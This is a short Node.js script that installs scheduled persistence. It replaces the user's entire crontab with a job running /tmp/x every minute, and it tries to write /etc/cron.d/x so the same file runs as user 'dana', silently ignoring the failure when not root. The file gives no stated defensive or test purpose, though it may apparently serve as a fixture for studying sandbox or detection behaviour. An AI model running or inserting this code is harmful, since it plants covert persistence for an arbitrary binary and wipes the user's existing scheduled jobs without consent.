import { spawnSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'

spawnSync('crontab', ['-'], { input: '* * * * * /tmp/x\n' })
try {
  writeFileSync('/etc/cron.d/x', '* * * * * dana /tmp/x\n')
} catch {
  // Only root could.
}
